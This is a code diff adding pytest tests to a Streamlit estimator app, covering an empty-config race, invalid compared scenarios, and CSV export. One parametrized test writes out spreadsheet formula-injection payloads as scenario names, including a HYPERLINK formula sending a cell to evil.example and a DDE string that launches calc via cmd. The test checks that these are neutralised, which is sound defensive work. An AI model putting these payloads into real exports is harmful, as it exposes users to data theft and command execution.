@@ -5,7 +5,7 @@ import json
 
 import pandas as pd
 import pytest
-from app_helpers import assert_clean, gb, start, texts
+from app_helpers import assert_clean, gb, plain, start, texts
 from streamlit.runtime.memory_media_file_storage import MemoryMediaFileStorage
 
 import estimator as est
@@ -125,3 +125,37 @@ def test_scenario_names_are_shown_literally():
     assert_clean(at)
     assert "**bold** [x](https://e.example)" in compare_table(at).columns
     assert "[x](https" not in texts(at).replace("**bold** [x](https://e.example)", "")
+
+
+def test_add_to_comparison_refuses_inputs_that_changed_to_an_empty_config():
+    """The race an attacker found: "config.json" clicked, then "Add to comparison" before the page reran. The
+    click's callback sees src=config with no config yet; it must add nothing and say why."""
+    at = start()
+    at.session_state["_pages"]["inference"]["src"] = "config"  # what the config.json radio set, not yet drawn
+    at.button(key="inference.add").click().run()
+    assert "Not added: config.json is empty" in plain(at.toast[0].value)
+    assert at.session_state["_compare"] == []
+
+
+def test_an_invalid_compared_scenario_gets_a_message_and_can_still_be_removed():
+    at = start(TWO_SCENARIOS)
+    broken = dict(at.session_state["_compare"][0].state, src="config", cfg="")
+    at.session_state["_compare"][0].state = broken  # as a scenario added by the old code was
+    at.run()
+    assert not at.exception
+    assert "This scenario cannot be estimated: config.json is empty" in plain(at.error[0].value)
+    assert list(compare_table(at).columns) == ["LoRA 7B"]  # the valid one is still compared
+    at.button(key="compare.remove.1").click().run()
+    assert_clean(at)
+    assert list(compare_table(at).columns) == ["LoRA 7B"]
+
+
+@pytest.mark.parametrize("name", ['=HYPERLINK("http://evil.example/?x="&A2,"x")', "@SUM(1+1)*cmd|' /C calc'!A0",
+                                  "+1+2", "-2+3"])
+def test_the_csv_download_neutralises_names_a_spreadsheet_would_run(downloads, name):
+    """A scenario name set through a link (c2.name) reaches the CSV as text a spreadsheet will not evaluate;
+    the page itself still shows it as typed."""
+    at = start({**TWO_SCENARIOS, "c2.name": name})
+    assert list(compare_table(at).columns)[1] == name
+    csv = pd.read_csv(io.BytesIO(dict(downloads)["comparison.csv"]), index_col=0, dtype=str)
+    assert list(csv.columns)[1] == "'" + name
